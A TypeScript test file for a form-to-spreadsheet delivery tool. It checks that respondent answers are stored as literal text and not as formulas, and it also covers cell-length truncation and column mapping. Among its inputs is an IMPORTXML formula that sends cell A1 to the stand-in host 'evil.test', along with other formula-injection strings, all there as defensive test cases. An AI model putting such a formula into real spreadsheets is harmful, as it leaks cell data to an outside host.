/** What respondents write, and how much of it: what stands in the cell is the text that was sent. */
import { expect, it } from "vitest";
import { CELL_CHARACTERS_MAX } from "./cells";
import { deliver } from "./deliver";
import { entry, makeWorld, page, response, SHEET_ID } from "./testing";

const TEXTS = {
  "a formula": "=1+1",
  "a formula that fetches": '=IMPORTXML("https://evil.test/?" & A1, "//a")',
  "a plus": "+1",
  "a minus": "-1+2",
  "an at": "@SUM(A1)",
  "a tab before a formula": "\t=1",
  "a quote before a formula": "'=1",
  "a line break before a formula": "\r\n=1",
  "a number with zeros": "007",
  "a date": "1/2/2026",
  "true, as a word": "TRUE",
  "zero-width and joiners": "a\u200Bb\u200D\uFEFFc",
  "right-to-left, with marks": "\u202Eمرحبا שלום\u202C 12",
  "emoji and families": "👩‍👩‍👧‍👦🇮🇳☺️",
  Devanagari: "नमस्ते, महाराष्ट्र",
  "lines and quotes": 'one\ntwo "three"; <b>',
  "blanks around": "  text  ",
};

it.each(Object.entries(TEXTS))("%s is stored as the text that was sent", async (_, name) => {
  const world = makeWorld();
  await deliver(page([entry(response(1, { name }))]), world.deps);
  await deliver(page([entry(response(1, { name }))], { replay: true }), world.deps);
  const cells = world.emulator.inspect(SHEET_ID).tabs.flatMap((tab) => tab.rows.flat());
  expect(world.rows().map((row) => row[2])).toEqual([name]);
  expect(cells.filter((cell) => cell?.userEnteredValue?.stringValue === name)).toHaveLength(1);
  expect(cells.filter((cell) => cell?.userEnteredValue?.formulaValue !== undefined)).toEqual([]);
});

it("an answer of 50,000 characters is whole; a longer one has its beginning and a note", async () => {
  const world = makeWorld();
  const whole = "x".repeat(CELL_CHARACTERS_MAX);
  await deliver(page([entry(response(1, { name: whole })), entry(response(2, { name: `${whole}y` }))]), world.deps);
  const [first, second] = world.rows().map((row) => row[2] ?? "");
  expect(first).toBe(whole);
  expect(second?.length).toBeLessThanOrEqual(CELL_CHARACTERS_MAX);
  expect(second?.startsWith("x".repeat(49_000))).toBe(true);
  expect(second).toContain("50001 characters in all, a cell holds 50000; the whole answer is in Formlog");
});

it("400 questions are 400 columns, found again when there are 401", async () => {
  const questions = Array.from({ length: 400 }, (_, i) => ({
    ref: `q${i}`,
    type: "short_text" as const,
    title: `Question ${i}`,
  }));
  const world = makeWorld({ definition: { title: "Long", questions } });
  const answers = Object.fromEntries(questions.map(({ ref }) => [ref, `answer to ${ref}`]));
  await deliver(page([entry(response(1, answers))]), world.deps);
  expect(world.rows()[0]?.slice(2)).toEqual(questions.map(({ ref }) => `answer to ${ref}`));
  const more = { title: "Long", questions: [{ ref: "new", type: "short_text" as const, title: "New" }, ...questions] };
  const form = { ...world.deps.form, version: 2, definitions: new Map([[2, more]]) };
  const second = { ...response(2, { ...answers, new: "n" }), version: 2 };
  await deliver(page([entry(second)]), { ...world.deps, form });
  expect(world.rows()[1]?.slice(2)).toEqual([...questions.map(({ ref }) => `answer to ${ref}`), "n"]);
});
